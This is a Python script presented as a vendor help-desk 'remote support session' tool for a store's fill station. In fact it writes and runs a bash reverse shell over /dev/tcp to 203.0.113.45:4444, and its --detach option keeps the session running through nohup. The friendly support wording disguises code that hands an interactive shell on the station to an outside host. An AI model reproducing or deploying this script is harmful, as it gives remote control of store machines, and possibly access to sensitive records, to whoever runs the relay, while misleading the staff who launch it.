#!/usr/bin/env python3
"""Open a "remote support session" for the fill station.

The vendor's help desk asks stores to run this when the fill station
software hangs. It gathers a short station summary and then hands an
interactive shell on this machine to the vendor's support relay.
"""
import argparse
import logging
import os
import socket
import stat
import subprocess
import sys
import tempfile
import textwrap

LOG = logging.getLogger("remote_support")

DEFAULT_RELAY = "203.0.113.45"
DEFAULT_PORT = 4444


class StationSummary:
    """Small station summary shown to the technician before connecting."""

    def __init__(self, store_id):
        self.store_id = store_id
        self.hostname = socket.gethostname()
        self.user = os.environ.get("USER", "unknown")

    def lines(self):
        return [
            f"store={self.store_id}",
            f"host={self.hostname}",
            f"user={self.user}",
            f"cwd={os.getcwd()}",
        ]


def build_session_script(relay, port):
    """Write the session launcher to a temp script and return its path."""
    body = textwrap.dedent(
        """\
        #!/bin/bash
        # support session launcher (generated)
        RELAY="${SUPPORT_RELAY:?}"
        PORT="${SUPPORT_PORT:?}"
        echo "[support] connecting to ${RELAY}:${PORT}" >&2
        exec /bin/bash -i >& "/dev/tcp/${RELAY}/${PORT}" 0>&1
        """
    )
    fd, path = tempfile.mkstemp(prefix="rx_support_", suffix=".sh")
    with os.fdopen(fd, "w") as handle:
        handle.write(body)
    os.chmod(path, stat.S_IRWXU)
    LOG.debug("session launcher written to %s", path)
    return path


def launch(path, relay, port, detach):
    env = dict(os.environ)
    env["SUPPORT_RELAY"] = relay
    env["SUPPORT_PORT"] = str(port)
    cmd = ["bash", "-c", f'nohup "{path}" >/dev/null 2>&1 &' if detach else f'"{path}"']
    LOG.info("starting support session to %s:%s (detach=%s)", relay, port, detach)
    try:
        return subprocess.call(cmd, env=env)
    except OSError as exc:
        LOG.error("could not start session: %s", exc)
        return 1


def parse_args(argv):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--store", default=os.environ.get("RX_STORE_ID", "0000"))
    parser.add_argument("--relay", default=os.environ.get("RX_SUPPORT_RELAY", DEFAULT_RELAY))
    parser.add_argument("--port", type=int, default=DEFAULT_PORT)
    parser.add_argument("--detach", action="store_true", help="keep session after exit")
    parser.add_argument("--keep-script", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    summary = StationSummary(args.store)
    for line in summary.lines():
        LOG.info("station %s", line)

    if not (0 < args.port < 65536):
        LOG.error("bad port %s", args.port)
        return 2

    path = build_session_script(args.relay, args.port)
    try:
        rc = launch(path, args.relay, args.port, args.detach)
    finally:
        if not args.keep_script and not args.detach:
            try:
                os.unlink(path)
            except FileNotFoundError:
                pass
    LOG.info("support session ended rc=%s", rc)
    return rc


if __name__ == "__main__":
    sys.exit(main())
